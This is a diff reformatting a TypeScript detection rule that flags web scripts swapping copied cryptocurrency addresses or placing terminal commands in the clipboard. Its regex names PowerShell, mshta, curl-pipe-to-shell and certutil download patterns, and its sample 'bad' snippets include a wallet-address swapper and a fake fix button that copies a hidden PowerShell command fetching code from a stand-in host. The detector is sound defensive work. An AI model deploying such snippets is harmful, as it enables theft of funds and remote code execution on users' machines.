@@ -1,11 +1,21 @@
-import { callsNamed, callsOf, constant, Op, pattern, resolve, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  callsNamed,
+  callsOf,
+  constant,
+  Op,
+  pattern,
+  resolve,
+  writesOf,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { addressPatterns } from './walletAddresses.ts';
 import { textsOf } from './network.ts';
 
 /** Commands that people are talked into pasting into a terminal. */
-const COMMAND = /\b(powershell(\.exe)?\b.{0,80}(-e(nc|ncodedcommand)?\b|-w(indowstyle)?\s+h|iex|irm|iwr|invoke-|downloadstring)|mshta(\.exe)?\s+https?:|cmd(\.exe)?\s+\/c\s|curl\s.{4,200}\|\s*(ba|z)?sh\b|bitsadmin\s|certutil\s.{0,40}-urlcache|msiexec\s.{0,20}https?:|rundll32\s)/i;
+const COMMAND =
+  /\b(powershell(\.exe)?\b.{0,80}(-e(nc|ncodedcommand)?\b|-w(indowstyle)?\s+h|iex|irm|iwr|invoke-|downloadstring)|mshta(\.exe)?\s+https?:|cmd(\.exe)?\s+\/c\s|curl\s.{4,200}\|\s*(ba|z)?sh\b|bitsadmin\s|certutil\s.{0,40}-urlcache|msiexec\s.{0,20}https?:|rundll32\s)/i;
 
 export const clipboardSwapped = defineRule({
   id: 'clipboard-swapped',
@@ -23,33 +33,72 @@ export const clipboardSwapped = defineRule({
     if (writes.length === 0) return;
     for (const { value, content } of writes) {
       const text = pattern(script, content);
-      if (COMMAND.test(text)) yield hit(value, { evidence: text.slice(0, 120), message: 'A command for a terminal is put into the clipboard.' });
+      if (COMMAND.test(text))
+        yield hit(value, {
+          evidence: text.slice(0, 120),
+          message: 'A command for a terminal is put into the clipboard.',
+        });
     }
     const addresses = addressPatterns(script);
-    const reads = callsOf(script, 'navigator.clipboard.readText').length > 0 || callsNamed(script, 'getSelection').length > 0 || callsNamed(script, 'getData').length > 0 || callsOf(script, 'document.execCommand').some((call) => constant(script, call.args[0] ?? 0) === 'paste');
-    const own = textsOf(script).find(({ text }) => /^(0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|T[1-9A-HJ-NP-Za-km-z]{33})$/.test(text));
+    const reads =
+      callsOf(script, 'navigator.clipboard.readText').length > 0 ||
+      callsNamed(script, 'getSelection').length > 0 ||
+      callsNamed(script, 'getData').length > 0 ||
+      callsOf(script, 'document.execCommand').some((call) => constant(script, call.args[0] ?? 0) === 'paste');
+    const own = textsOf(script).find(({ text }) =>
+      /^(0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|T[1-9A-HJ-NP-Za-km-z]{33})$/.test(text),
+    );
     const first = addresses[0];
-    if (first !== undefined && (reads || own !== undefined)) yield hit((writes[0] as { value: number }).value, own === undefined ? { confidence: 'medium', message: 'What was copied is compared with the form of wallet addresses and the clipboard is written.' } : { message: `Wallet addresses are recognised (${first.text.slice(0, 60)}) and another one is put into the clipboard.` });
+    if (first !== undefined && (reads || own !== undefined))
+      yield hit(
+        (writes[0] as { value: number }).value,
+        own === undefined
+          ? {
+              confidence: 'medium',
+              message: 'What was copied is compared with the form of wallet addresses and the clipboard is written.',
+            }
+          : {
+              message: `Wallet addresses are recognised (${first.text.slice(0, 60)}) and another one is put into the clipboard.`,
+            },
+      );
   }),
   examples: {
     bad: [
-      contentExample('const mine = "0x52908400098527886E0F7030069857D2E4169EE7"; document.addEventListener("copy", (e) => { const t = getSelection().toString(); if (/^0x[a-fA-F0-9]{40}$/.test(t)) { e.clipboardData.setData("text/plain", mine); e.preventDefault(); } });'),
-      backgroundExample('setInterval(async () => { const t = await navigator.clipboard.readText(); const r = /\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/; if (r.test(t)) navigator.clipboard.writeText(pick(t)); }, 500);'),
-      contentExample('fix.onclick = () => { navigator.clipboard.writeText("powershell -w hidden -c \\"iex (irm https://x.example/a)\\""); show("Press Win+R and paste"); };'),
+      contentExample(
+        'const mine = "0x52908400098527886E0F7030069857D2E4169EE7"; document.addEventListener("copy", (e) => { const t = getSelection().toString(); if (/^0x[a-fA-F0-9]{40}$/.test(t)) { e.clipboardData.setData("text/plain", mine); e.preventDefault(); } });',
+      ),
+      backgroundExample(
+        'setInterval(async () => { const t = await navigator.clipboard.readText(); const r = /\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/; if (r.test(t)) navigator.clipboard.writeText(pick(t)); }, 500);',
+      ),
+      contentExample(
+        'fix.onclick = () => { navigator.clipboard.writeText("powershell -w hidden -c \\"iex (irm https://x.example/a)\\""); show("Press Win+R and paste"); };',
+      ),
     ],
     good: [
       contentExample('button.onclick = () => navigator.clipboard.writeText(location.href);'),
       contentExample('const valid = /^0x[a-fA-F0-9]{40}$/.test(input.value); show(valid);'),
       contentExample('copy.onclick = () => navigator.clipboard.writeText("npm install example");'),
-      contentExample('document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", getSelection().toString().trim()); e.preventDefault(); });'),
+      contentExample(
+        'document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", getSelection().toString().trim()); e.preventDefault(); });',
+      ),
     ],
   },
 });
 
 function clipboardWrites(script: ScriptFacts): { value: number; content: number }[] {
-  const out = callsOf(script, 'navigator.clipboard.writeText').map((call) => ({ value: call.value, content: call.args[0] ?? 0 }));
-  for (const call of callsNamed(script, 'setData')) if (/^text/.test(constant(script, call.args[0] ?? 0) ?? '')) out.push({ value: call.value, content: call.args[1] ?? 0 });
-  const copies = callsOf(script, 'document.execCommand').filter((call) => constant(script, call.args[0] ?? 0) === 'copy');
-  if (copies.length > 0) for (const write of writesOf(script, 'value')) if (script.op[resolve(script, write.value)] !== Op.unknown) out.push({ value: copies[0]?.value ?? 0, content: write.value });
+  const out = callsOf(script, 'navigator.clipboard.writeText').map((call) => ({
+    value: call.value,
+    content: call.args[0] ?? 0,
+  }));
+  for (const call of callsNamed(script, 'setData'))
+    if (/^text/.test(constant(script, call.args[0] ?? 0) ?? ''))
+      out.push({ value: call.value, content: call.args[1] ?? 0 });
+  const copies = callsOf(script, 'document.execCommand').filter(
+    (call) => constant(script, call.args[0] ?? 0) === 'copy',
+  );
+  if (copies.length > 0)
+    for (const write of writesOf(script, 'value'))
+      if (script.op[resolve(script, write.value)] !== Op.unknown)
+        out.push({ value: copies[0]?.value ?? 0, content: write.value });
   return out;
 }
